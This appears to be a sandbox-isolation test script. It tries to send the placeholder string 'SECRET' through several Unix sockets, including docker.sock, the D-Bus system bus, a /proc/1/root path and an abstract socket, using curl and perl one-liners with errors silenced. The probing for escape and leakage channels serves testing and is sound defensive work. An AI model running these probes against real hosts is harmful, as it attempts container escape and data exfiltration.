#!/bin/bash
# expect: any
echo started
for s in /run/listener.sock /tmp/listener.sock /var/run/docker.sock /run/dbus/system_bus_socket /proc/1/root/run/listener.sock; do
    curl -s -m 1 --unix-socket "$s" "http://x/SECRET" >/dev/null 2>&1
    perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un($ARGV[0])) and syswrite(S, "SECRET")' "$s" 2>/dev/null
done
perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un("\0listener")) and syswrite(S, "SECRET")' 2>/dev/null
exit 0
